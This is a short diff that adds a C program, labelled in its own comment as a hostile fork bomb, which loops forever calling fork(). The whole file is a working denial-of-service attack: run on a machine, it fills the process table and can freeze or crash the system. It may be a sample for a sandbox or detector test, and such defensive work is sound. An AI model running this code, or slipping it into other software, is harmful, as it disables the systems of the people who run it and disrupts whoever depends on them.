@@ -1,0 +1,8 @@
+/* Hostile: a fork bomb. */
+#include <unistd.h>
+
+int main(void)
+{
+	for (;;)
+		fork();
+}
